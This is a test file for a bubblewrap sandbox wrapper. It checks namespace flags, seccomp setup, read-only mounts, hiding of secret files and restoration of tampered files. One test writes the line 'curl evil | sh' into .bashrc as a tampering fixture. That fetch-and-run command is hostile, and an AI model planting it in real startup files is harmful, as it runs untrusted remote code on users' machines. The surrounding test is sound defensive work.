import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { FILTER, NAMESPACES } from '../../../protocol/sandbox/preflight.js';
import { wrapCommand } from '../../../protocol/sandbox/wrap.js';
import { tempDir } from '../../helpers/tmp.js';

// Argument building only: without a network allow-list wrapCommand starts nothing; the command line is
// checked here, and the sandbox itself by the process suites that run bwrap.
const base = tempDir('gmc-wrap-');
const workDir = join(base, 'work');
const ws = join(base, 'ws');
const secretDir = join(base, 'secrets');
const projectTmp = join(secretDir, 'tmp', 'proj');
mkdirSync(join(workDir, 'tmp'), { recursive: true });
mkdirSync(ws);
mkdirSync(projectTmp, { recursive: true });
writeFileSync(join(ws, '.bashrc'), 'mine');
writeFileSync(join(ws, '.env.secret-token'), 'x');
const tools = { bwrap: '/usr/bin/bwrap', workDir };
const spec = {
  tools,
  writable: [ws],
  cwd: ws,
  command: 'npm',
  args: ['test', '--', 'a b'],
  env: { PATH: '/usr/bin', KEEP: '1' },
  extraSecrets: [secretDir, join(ws, '.env.secret-token')],
  readable: [projectTmp],
};
/** The index of the first `flag path` pair in args. */
const at = (args: string[], flag: string, path: string) => args.findIndex((a, i) => a === flag && args[i + 1] === path);

describe('wrapCommand', () => {
  it('bwrap through a shell that opens the seccomp filter on fd 3, namespaces first, the command last', async () => {
    const w = await wrapCommand(spec);
    expect(w.file).toBe('/bin/sh');
    expect(w.args.slice(0, 4)).toEqual(['-c', 'exec "$@" 3<"$0"', join(workDir, FILTER.closed), '/usr/bin/bwrap']);
    expect(w.args.slice(4, 4 + NAMESPACES.length)).toEqual([...NAMESPACES]);
    expect(w.args.slice(4 + NAMESPACES.length, 4 + NAMESPACES.length + 7)).toEqual([
      '--ro-bind',
      '/',
      '/',
      '--dev',
      '/dev',
      '--proc',
      '/proc',
    ]);
    expect(w.args.slice(-9)).toEqual(['--chdir', ws, '--seccomp', '3', '--', 'npm', 'test', '--', 'a b']);
    await w.cleanup();
  });

  it('the workspace is writable; what runs code later and the secrets in it are mounted over it, after it', async () => {
    const w = await wrapCommand(spec);
    const bind = at(w.args, '--bind', ws);
    expect(bind).toBeGreaterThan(0);
    expect(at(w.args, '--ro-bind', join(ws, '.bashrc'))).toBeGreaterThan(bind);
    const hiddenFile = w.args.findIndex((a, i) => a === '/dev/null' && w.args[i + 1] === join(ws, '.env.secret-token'));
    expect(hiddenFile).toBeGreaterThan(bind);
    await w.cleanup();
  });

  it('a secret folder becomes an empty read-only folder; a readable folder inside it is mounted again after it', async () => {
    const w = await wrapCommand(spec);
    const tmpfs = at(w.args, '--tmpfs', secretDir);
    const again = at(w.args, '--ro-bind', projectTmp);
    expect(tmpfs).toBeGreaterThan(0);
    expect(again).toBeGreaterThan(tmpfs);
    const remount = at(w.args, '--remount-ro', secretDir);
    expect(remount).toBeGreaterThan(again);
    expect(remount).toBeLessThan(w.args.indexOf('--chdir'));
    await w.cleanup();
  });

  it('a private tmpfs for TMPDIR under the read-only work folder; the environment is kept', async () => {
    const w = await wrapCommand(spec);
    expect(at(w.args, '--tmpfs', join(workDir, 'tmp'))).toBeGreaterThan(at(w.args, '--ro-bind', workDir));
    expect(w.env).toMatchObject({
      PATH: '/usr/bin',
      KEEP: '1',
      TMPDIR: join(workDir, 'tmp'),
      SANDBOX: 'gemini-mcp-bwrap',
    });
    expect(w.env.HTTP_PROXY).toBeUndefined();
    await w.cleanup();
  });

  it('a workspace inside a hidden folder is bound after the folder is hidden, so it stays visible', async () => {
    const inner = join(secretDir, 'inner-ws');
    mkdirSync(inner, { recursive: true });
    const w = await wrapCommand({ ...spec, writable: [inner], cwd: inner });
    expect(at(w.args, '--bind', inner)).toBeGreaterThan(at(w.args, '--tmpfs', secretDir));
    await w.cleanup();
  });

  it('a writable root that does not exist is left out, not bound', async () => {
    const w = await wrapCommand({ ...spec, writable: [ws, join(base, 'missing')] });
    expect(w.args).not.toContain(join(base, 'missing'));
    await w.cleanup();
  });

  it('a network allow-list needs socat: a clear error before anything starts', async () => {
    await expect(wrapCommand({ ...spec, allowNet: ['registry.npmjs.org'] })).rejects.toThrow(
      'sandbox: socat is needed for a network allow-list',
    );
  });

  it('cleanup puts back a protected file the command changed, once', async () => {
    const w = await wrapCommand(spec);
    writeFileSync(join(ws, '.bashrc'), 'curl evil | sh');
    const notes = await w.cleanup();
    expect(notes).toHaveLength(1);
    expect(notes[0]).toMatch(/^sandbox: \.bashrc was changed by the command and has been restored/);
    expect(readFileSync(join(ws, '.bashrc'), 'utf8')).toBe('mine');
    expect(await w.cleanup()).toEqual(notes);
  });
});
